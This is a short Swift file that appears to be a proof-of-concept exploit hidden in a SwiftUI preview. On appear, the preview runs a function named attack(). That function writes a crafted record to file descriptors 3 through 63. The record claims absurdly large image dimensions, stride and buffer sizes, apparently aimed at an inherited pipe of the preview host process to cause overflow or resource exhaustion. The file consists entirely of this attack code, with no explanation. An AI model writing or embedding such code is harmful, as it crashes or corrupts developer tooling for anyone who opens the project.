import SwiftUI

// Ends with 3: pipe

func attack() {
  let shape = """
    {"width":1000000000,"height":1000000000,"stride":4000000000,"slotBytes":4000000000000000000,\
    "slots":9,"frameCount":9,"hasAlpha":true}
    """
  let record: [UInt8] = [1, UInt8(shape.utf8.count), 0, 0, 0] + Array(shape.utf8)
  for number in 3..<64 { write(Int32(number), record, record.count) }
}

#Preview {
  Text("still here").onAppear(perform: attack)
}
